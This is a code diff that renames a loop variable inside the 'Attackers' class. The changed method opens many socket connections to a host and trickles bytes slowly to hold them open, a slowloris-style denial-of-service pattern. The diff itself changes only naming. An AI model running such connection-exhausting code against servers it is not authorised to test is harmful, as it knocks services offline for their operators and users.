@@ -105,15 +105,15 @@ class Attackers:
         while not self._over.is_set():
             slow = [socket.create_connection((host, int(port))) for _ in range(SLOW)]
             try:
-                for one in slow:
-                    one.sendall(head.encode())
+                for connection in slow:
+                    connection.sendall(head.encode())
                 for _ in range(100):
-                    for one in slow:
-                        one.sendall(b"x")
+                    for connection in slow:
+                        connection.sendall(b"x")
                     if self._over.wait(0.1):
                         break
             except OSError:
                 pass  # hung up on
             finally:
-                for one in slow:
-                    one.close()
+                for connection in slow:
+                    connection.close()
